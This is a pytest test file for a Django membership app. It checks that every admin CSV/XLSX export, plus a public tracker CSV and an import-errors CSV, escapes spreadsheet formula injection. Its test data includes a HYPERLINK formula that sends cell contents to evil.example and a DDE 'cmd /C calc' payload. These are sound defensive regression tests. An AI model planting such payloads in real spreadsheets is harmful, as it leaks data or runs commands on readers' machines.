"""No export hands a spreadsheet a live formula: every admin list exported as CSV and XLSX, every text
column of every exported record set to a formula first (straight in the database, past every door), plus
the hand-written CSVs (public tracker, import errors)."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from django.utils import timezone

from coalition.exports import FORMULA_PREFIXES, formula_safe
from members.admin_export import CoalitionExportMixin
from members.models import ImportJob
from newsletters.models import BounceEvent, Delivery, NewsletterTranslation
from tests.campaigns.factories import CampaignFactory, EventFactory, ParticipantFactory, TargetFactory
from tests.members.enquiry_factories import EnquiryFactory
from tests.members.factories import (
    CommitmentFactory,
    ContactFactory,
    EngagementFactory,
    MembershipFactory,
    MembershipTierFactory,
    OrganisationFactory,
)
from tests.newsletters.factories import NewsletterFactory, SubscriberFactory, TopicFactory

pytestmark = pytest.mark.django_db

FORMULA = '=hyperlink("http://evil.example/?"&a1,"click")'  # lower case: some columns must be


def _plain_number(text: str) -> bool:
    return formula_safe(text) == text


def _poison(instance) -> None:
    """Every text column of this one row starts with a formula character."""
    values = {}
    for n, field in enumerate(instance._meta.concrete_fields):
        if isinstance(field, (models.CharField, models.TextField)) and not field.primary_key:
            prefix = FORMULA_PREFIXES[n % len(FORMULA_PREFIXES)]
            value = f"{prefix}{FORMULA}|{field.name}"
            values[field.name] = value[: field.max_length] if field.max_length else value
    type(instance).objects.filter(pk=instance.pk).update(**values)


@pytest.fixture
def hostile_rows():
    organisation = OrganisationFactory()
    contact = ContactFactory(organisation=organisation)
    subscriber = SubscriberFactory()
    newsletter = NewsletterFactory()
    campaign = CampaignFactory()
    event = EventFactory(campaign=campaign)
    rows = [
        organisation,
        contact,
        MembershipTierFactory(),
        MembershipFactory(organisation=organisation),
        CommitmentFactory(organisation=organisation),
        EngagementFactory(organisation=organisation),
        EnquiryFactory(),
        campaign,
        TargetFactory(campaign=campaign, organisation=organisation),
        event,
        ParticipantFactory(event=event, contact=contact),
        TopicFactory(),
        subscriber,
        newsletter,
        Delivery.objects.create(newsletter=newsletter, subscriber=subscriber, last_error="x"),
        NewsletterTranslation.objects.create(
            newsletter=newsletter, language="fr", subject="x", preheader="x", body_markdown="x"
        ),
        BounceEvent.objects.create(
            subscriber=subscriber, kind="hard", provider="p", occurred_at=timezone.now()
        ),
        *_relationship_and_climate_rows(organisation, contact),
    ]
    for row in rows:
        _poison(row)
    return rows


def _relationship_and_climate_rows(organisation, contact) -> list:
    """One row of each export list added with affiliations, dues and climate data."""
    from decimal import Decimal

    from members.models import Affiliation, Discrepancy, Invoice, NdcSubmission, Payment

    today = timezone.localdate()
    membership = MembershipFactory()
    commitment = CommitmentFactory(organisation=organisation)
    invoice = Invoice.objects.create(
        number=900001,
        membership=membership,
        organisation=membership.organisation,
        tier=membership.tier,
        period_start=today,
        issued_on=today,
        due_on=today,
        amount=Decimal("100.00"),
        currency="EUR",
        bill_to="x",
    )
    return [
        Affiliation.objects.create(contact=contact, organisation=organisation, start_on=today),
        invoice,
        Payment.objects.create(invoice=invoice, paid_on=today, amount=Decimal("10.00"), currency="EUR"),
        NdcSubmission.objects.create(
            party_code="DNK", party="x", title="x", round="ndc3", status="active", url="x"
        ),
        Discrepancy.objects.create(
            organisation=organisation, commitment=commitment, fingerprint="x", summary="x"
        ),
    ]


def _exportable_admins():
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, CoalitionExportMixin)
    ]


def _export(client, model, model_admin, fmt: int):
    (resource_class,) = model_admin.get_export_resource_classes(None)
    form = {"format": str(fmt), "resource": "0"}
    for name in resource_class().get_export_order():
        form[f"{resource_class.__name__.lower()}_{name}"] = "on"
    url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/"
    response = client.post(url, form)
    assert response.status_code == 200, (url, response.content[:500])
    return response


def test_every_admin_export_escapes_formulas_in_csv_and_xlsx(client, superuser, hostile_rows):
    client.force_login(superuser)
    exported = _exportable_admins()
    assert len(exported) >= 16
    without_text = []
    for model, model_admin in exported:
        formats = [f.__name__ for f in model_admin.get_export_formats()]
        assert formats == ["CSV", "XLSX"], model

        response = _export(client, model, model_admin, 0)
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _plain_number(c)]
        assert dangerous == [], model
        if not any(c.startswith("'") and "=hyperlin" in c for c in cells):
            without_text.append(model.__name__)

        response = _export(client, model, model_admin, 1)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in values if c.data_type == "f"] == [], model
        escaped = any(isinstance(c.value, str) and c.value.startswith("'") for c in values)
        assert escaped or model.__name__ in without_text, model
    # The test reaches the cells it means to: every list exported some of the hostile text.
    assert without_text == []


def test_the_public_tracker_csv_escapes_formulas(client):
    from members.models import Organisation

    organisation = OrganisationFactory(listed_publicly=True)
    MembershipFactory(organisation=organisation)
    CommitmentFactory(organisation=organisation)
    Organisation.objects.filter(pk=organisation.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client.get("/commitments/commitments.csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _plain_number(c)]


def test_the_import_errors_csv_escapes_formulas(client, superuser):
    job = ImportJob.objects.create(
        resource="organisations",
        format="csv",
        file="imports/x.csv",
        created_by=superuser,
        errors=[{"row": 2, "field": "=name", "message": f"{FORMULA} is not a country"}],
    )
    client.force_login(superuser)
    response = client.get(f"/staff/imports/{job.pk}/errors.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["2", "'=name", f"'{FORMULA} is not a country"]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_the_shared_rule_makes_formula_text_inert(value):
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+1.5", "110", "", "Net zero", 42, None])
def test_the_shared_rule_leaves_numbers_and_plain_text_alone(value):
    assert formula_safe(value) == value
